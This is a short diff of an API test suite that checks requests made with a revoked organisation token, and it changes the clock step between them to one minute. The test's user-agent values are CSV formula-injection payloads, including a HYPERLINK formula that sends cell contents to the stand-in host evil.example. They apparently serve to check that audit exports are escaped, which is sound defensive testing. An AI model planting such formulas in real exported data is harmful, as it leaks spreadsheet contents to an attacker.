@@ -392,7 +392,8 @@ for (const kind of databaseKinds()) {
       await call(h, 'DELETE', `/api/orgs/${w.org.name}/tokens/${w.orgToken.id}`, { token: w.alice.token });
       const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', 'plain, with "quotes"'];
       for (const ua of hostile) {
-        h.clock.advance(1);
+        // A minute apart: repeated uses of one dead token share an audit row a minute (X05).
+        h.clock.advance(60_000);
         expectError(await call(h, 'GET', '/api/user', { token: w.orgToken.value, headers: { 'user-agent': ua } }), 401, 'token_revoked');
       }
       // characters no HTTP header carries, written straight to the store
